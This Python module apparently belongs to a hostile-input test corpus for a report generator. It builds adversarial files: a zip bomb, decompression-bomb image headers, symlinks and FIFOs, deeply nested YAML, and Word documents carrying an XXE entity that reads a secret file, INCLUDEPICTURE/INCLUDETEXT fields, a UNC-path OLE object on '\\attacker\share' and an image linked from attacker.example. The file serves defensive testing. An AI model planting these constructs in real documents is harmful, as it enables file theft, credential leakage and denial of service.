"""Files that hostile cases need but that are binary or huge, made when a case runs.

A case names them in ``# setup:`` lines of its header (see README.md): the first word is
a function of ``SETUPS``, the rest its arguments. Paths are relative to the case's
project folder; ``{secret}`` stands for a file outside the project that no build may read.
"""

from __future__ import annotations

import io
import os
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

CORPUS = Path(__file__).resolve().parent
"""This folder: the cases and the small text files they copy."""


@dataclass(frozen=True)
class Setting:
    """Where a case runs: its project folder, its own file there, and the secret outside."""

    project: Path
    case: Path
    secret: Path


# --- images -------------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bytes(width: int, height: int, *, pixels: bool = True) -> bytes:
    """A PNG of ``width`` x ``height`` grey pixels; without ``pixels``, only what it declares."""
    header = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    body = b""
    if pixels:
        row = b"\x00" + b"\x80" * width
        body = _chunk(b"IDAT", zlib.compress(row * height, 9))
    return b"\x89PNG\r\n\x1a\n" + header + body + _chunk(b"IEND", b"")


def jpeg_bytes(width: int, height: int) -> bytes:
    """The start of a baseline JPEG declaring ``width`` x ``height`` pixels (no image data)."""
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + b"\xff\xc0" + struct.pack(">H", len(frame) + 2) + frame + b"\xff\xd9"


def png(setting: Setting, path: str, width: str, height: str) -> None:
    """A real PNG (grey, tiny when compressed)."""
    _target(setting, path).write_bytes(png_bytes(int(width), int(height)))


def png_header(setting: Setting, path: str, width: str, height: str) -> None:
    """A PNG that only declares its size: a decompression bomb is refused on this alone."""
    _target(setting, path).write_bytes(png_bytes(int(width), int(height), pixels=False))


def jpeg_header(setting: Setting, path: str, width: str, height: str) -> None:
    _target(setting, path).write_bytes(jpeg_bytes(int(width), int(height)))


def sparse(setting: Setting, path: str, size: str) -> None:
    """A file of ``size`` bytes that starts like a PNG and takes no room on disk."""
    target = _target(setting, path)
    with target.open("wb") as handle:
        handle.write(png_bytes(1, 1))
        handle.truncate(int(size))


def text(setting: Setting, path: str, *words: str) -> None:
    """A text file holding the words given."""
    _target(setting, path).write_text(" ".join(words) + "\n", encoding="utf-8")


def copy(setting: Setting, source: str, path: str) -> None:
    """A file of this folder, copied into the project (``{secret}`` filled in)."""
    content = (CORPUS / source).read_text(encoding="utf-8")
    _target(setting, path).write_text(
        content.replace("{secret}", setting.secret.as_uri()), encoding="utf-8"
    )


def symlink(setting: Setting, path: str, target: str) -> None:
    link = _target(setting, path)
    link.symlink_to(str(setting.secret) if target == "{secret}" else target)


def fifo(setting: Setting, path: str) -> None:
    """A named pipe: opening it to read would wait for a writer forever."""
    os.mkfifo(_target(setting, path))


def folder(setting: Setting, path: str) -> None:
    _target(setting, path).mkdir(parents=True, exist_ok=True)


def city(setting: Setting, path: str, ident: str) -> None:
    """A small valid city profile, except for what ``ident`` may be."""
    _target(setting, path).write_text(
        f'kind: city\nid: "{ident}"\nname: A city\ncountry: JP\nsummary: A city.\n',
        encoding="utf-8",
    )


# --- the case file itself ---------------------------------------------------------------------


def raw_bytes(setting: Setting) -> None:
    """Every ``<0xNN>`` in the case file becomes that byte (NUL, controls, non-UTF-8)."""
    data = setting.case.read_bytes()
    setting.case.write_bytes(
        re.sub(rb"<0x([0-9A-Fa-f]{2})>", lambda m: bytes([int(m.group(1), 16)]), data)
    )


def encode(setting: Setting, encoding: str) -> None:
    """The case file re-encoded (``utf-16`` writes a byte-order mark first)."""
    setting.case.write_bytes(setting.case.read_text(encoding="utf-8").encode(encoding))


def pad(setting: Setting, size: str) -> None:
    """Comment lines appended until the case file is ``size`` bytes long."""
    with setting.case.open("ab") as handle:
        missing = int(size) - handle.tell()
        line = b"#" + b"x" * 98 + b"\n"
        handle.write(line * (missing // len(line)) + b"#" * (missing % len(line)))


def long_text(setting: Setting, key: str, chars: str, word: str = "lorem ipsum") -> None:
    """``key:`` with a text of ``chars`` characters made of ``word`` repeated."""
    unit = word.replace("_", " ") + " "
    value = (unit * (int(chars) // len(unit) + 1))[: int(chars)].strip()
    _append(setting, f'{key}: "{value}"\n')


def long_word(setting: Setting, key: str, chars: str) -> None:
    """``key:`` with one word of ``chars`` letters."""
    _append(setting, f"{key}: {'x' * int(chars)}\n")


def long_partner(setting: Setting, chars: str) -> None:
    """A partnership whose partner is one word of ``chars`` letters (a cell of a table)."""
    _append(setting, f"partnerships:\n  - {{partner: {'W' * int(chars)}, type: sister}}\n")


def long_key(setting: Setting, chars: str) -> None:
    """An explicit key (``? key``) of ``chars`` characters: plain keys cannot be that long."""
    _append(setting, f"? {'k' * int(chars)}\n: 1\n")


def many_sdgs(setting: Setting, key: str, count: str) -> None:
    _append(setting, f"{key}: [" + ", ".join(str(i % 17 + 1) for i in range(int(count))) + "]\n")


def deep(setting: Setting, key: str, levels: str) -> None:
    """``key:`` holding lists nested ``levels`` deep."""
    depth = int(levels)
    _append(setting, f"{key}: {'[' * depth}1{']' * depth}\n")


def many_nodes(setting: Setting, key: str, count: str) -> None:
    """``key:`` holding ``count`` small mappings: a few megabytes that take much memory."""
    _append(setting, f"{key}: [" + ", ".join(["{a: b}"] * int(count)) + "]\n")


def agenda(setting: Setting, count: str) -> None:
    _append(setting, "agenda:\n")
    _append(
        setting,
        "".join(
            f'  - {{date: 2027-05-13, start: "09:30", title: Meeting {i}, location: Room {i}}}\n'
            for i in range(int(count))
        ),
    )


def timeline(setting: Setting, count: str) -> None:
    _append(setting, "timeline:\n")
    _append(
        setting,
        "".join(
            f"  - {{date: {1950 + i % 75}, title: Event {i}, partners: [dalian]}}\n"
            for i in range(int(count))
        ),
    )


def budget(setting: Setting, count: str) -> None:
    """A budget of ``count`` lines, each its own category."""
    _append(setting, "budget:\n  currency: JPY\n  lines:\n")
    _append(
        setting,
        "".join(
            f"    - {{item: Item {i}, category: category {i}, quantity: 2, unit_cost: 1500}}\n"
            for i in range(int(count))
        ),
    )


# --- Word reference documents -------------------------------------------------------------------


def random_bytes(setting: Setting, path: str, size: str) -> None:
    _target(setting, path).write_bytes(random.Random(8).randbytes(int(size)))


def zip_bomb(setting: Setting, path: str, megabytes: str) -> None:
    """A .docx whose document part is ``megabytes`` MB of zeros (about 1000 times packed)."""
    with zipfile.ZipFile(_target(setting, path), "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("word/document.xml", "w", force_zip64=True) as entry:
            chunk = bytes(1 << 20)
            for _ in range(int(megabytes)):
                entry.write(chunk)


def zip_entries(setting: Setting, path: str, *names: str) -> None:
    """A zip archive holding empty entries of these names."""
    with zipfile.ZipFile(_target(setting, path), "w") as archive:
        for name in names:
            archive.writestr(name, "<x/>")


def bundled_docx(setting: Setting, path: str, cut: str = "") -> None:
    """reportgen's own reference document; ``cut`` keeps only that fraction of its bytes."""
    from reportgen.renderers.docx import bundled_reference

    data = bundled_reference()
    if cut:
        data = data[: int(len(data) * float(cut))]
    _target(setting, path).write_bytes(data)


def docx_with_entity(setting: Setting, path: str) -> None:
    """The bundled reference, its styles naming an external entity (the secret file)."""
    from reportgen.renderers.docx import bundled_reference

    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(bundled_reference())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            data = source.read(entry.filename)
            if entry.filename == "word/styles.xml":
                entity = f'<!ENTITY secret SYSTEM "{setting.secret.as_uri()}">'
                doctype = f"<!DOCTYPE w:styles [{entity}]>"
                text = data.decode("utf-8")
                head, rest = text.split("?>", 1)
                rest = rest.replace('w:val="Title"/>', 'w:val="Title &secret;"/>', 1)
                data = (head + "?>" + doctype + rest).encode("utf-8")
            target.writestr(entry.filename, data)
    _target(setting, path).write_bytes(out.getvalue())


_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_HEADER = f"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:hdr xmlns:w="{_W}" xmlns:r="{_REL}"
 xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:p>
<w:r><w:t xml:space="preserve">Letterhead </w:t></w:r>
<w:r><w:fldChar w:fldCharType="begin"/></w:r>
<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "{{secret}}" \\d </w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>picture</w:t></w:r>
<w:r><w:fldChar w:fldCharType="end"/></w:r>
<w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\attacker\\share\\x.docx&quot; ">
<w:r><w:t>text</w:t></w:r></w:fldSimple>
<w:r><w:drawing><a:blip r:link="rIdLinked"/></w:drawing></w:r>
<w:hyperlink r:id="rIdWeb"><w:r><w:t>www.city.example</w:t></w:r></w:hyperlink>
</w:p></w:hdr>"""


def _rels(*items: tuple[str, str, str, bool]) -> str:
    rows = "".join(
        f'<Relationship Id="{ident}" Type="{_REL}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for ident, kind, target, external in items
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{rows}</Relationships>"
    )


def docx_active(setting: Setting, path: str) -> None:
    """The bundled reference with what fetches or runs: an attached template outside, a
    header that includes the secret (INCLUDEPICTURE, INCLUDETEXT) and links a picture
    from the web, an OLE object on a UNC path, and macros (vbaProject.bin)."""
    from reportgen.renderers.docx import bundled_reference

    secret = setting.secret.as_uri()
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(bundled_reference())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            text = source.read(entry.filename).decode("utf-8")
            if entry.filename == "word/settings.xml":
                text = text.replace(
                    f'xmlns:w="{_W}">',
                    f'xmlns:w="{_W}" xmlns:r="{_REL}"><w:attachedTemplate r:id="rIdT"/>',
                )
            elif entry.filename == "word/document.xml":
                text = text.replace(
                    "<w:sectPr>",
                    f'<w:sectPr xmlns:r="{_REL}"><w:headerReference w:type="default" r:id="rIdH"/>',
                )
            elif entry.filename == "word/_rels/document.xml.rels":
                text = text.replace(
                    "</Relationships>",
                    f'<Relationship Id="rIdH" Type="{_REL}/header" Target="header1.xml"/>'
                    f'<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/'
                    'relationships/vbaProject" Target="vbaProject.bin"/>'
                    f'<Relationship Id="rIdO" Type="{_REL}/oleObject" '
                    'Target="\\\\attacker\\share\\o.bin" TargetMode="External"/>'
                    "</Relationships>",
                )
            elif entry.filename == "[Content_Types].xml":
                text = text.replace(
                    "</Types>",
                    '<Override PartName="/word/header1.xml" ContentType="application/'
                    'vnd.openxmlformats-officedocument.wordprocessingml.header+xml"/>'
                    '<Override PartName="/word/vbaProject.bin" '
                    'ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                )
            target.writestr(entry.filename, text)
        target.writestr(
            "word/_rels/settings.xml.rels", _rels(("rIdT", "attachedTemplate", secret, True))
        )
        target.writestr("word/header1.xml", _HEADER.replace("{secret}", secret))
        target.writestr(
            "word/_rels/header1.xml.rels",
            _rels(
                ("rIdLinked", "image", "https://attacker.example/track.png", True),
                ("rIdWeb", "hyperlink", "https://www.city.example/", True),
            ),
        )
        target.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macros")
    _target(setting, path).write_bytes(out.getvalue())


def docx_style_circle(setting: Setting, path: str) -> None:
    """The bundled reference with two styles based on each other."""
    from reportgen.renderers.docx import bundled_reference

    circle = (
        '<w:style w:type="paragraph" w:styleId="LoopA"><w:name w:val="Loop A"/>'
        '<w:basedOn w:val="LoopB"/></w:style><w:style w:type="paragraph" w:styleId="LoopB">'
        '<w:name w:val="Loop B"/><w:basedOn w:val="LoopA"/></w:style></w:styles>'
    )
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(bundled_reference())) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for entry in source.infolist():
            data = source.read(entry.filename)
            if entry.filename == "word/styles.xml":
                data = data.decode("utf-8").replace("</w:styles>", circle).encode("utf-8")
            target.writestr(entry.filename, data)
    _target(setting, path).write_bytes(out.getvalue())


# --- helpers --------------------------------------------------------------------------------


def _target(setting: Setting, path: str) -> Path:
    target = setting.project / path
    target.parent.mkdir(parents=True, exist_ok=True)
    return target


def _append(setting: Setting, text_: str) -> None:
    with setting.case.open("a", encoding="utf-8") as handle:
        handle.write(text_)


SETUPS: dict[str, Callable[..., None]] = {
    function.__name__: function
    for function in (
        png,
        png_header,
        jpeg_header,
        sparse,
        text,
        copy,
        symlink,
        folder,
        fifo,
        city,
        raw_bytes,
        encode,
        pad,
        long_text,
        long_word,
        long_partner,
        long_key,
        many_sdgs,
        deep,
        many_nodes,
        agenda,
        timeline,
        budget,
        random_bytes,
        zip_bomb,
        zip_entries,
        bundled_docx,
        docx_with_entity,
        docx_active,
        docx_style_circle,
    )
}


def run_setup(setting: Setting, line: str) -> None:
    """Run one ``# setup:`` line."""
    name, *args = line.split()
    SETUPS[name](setting, *args)
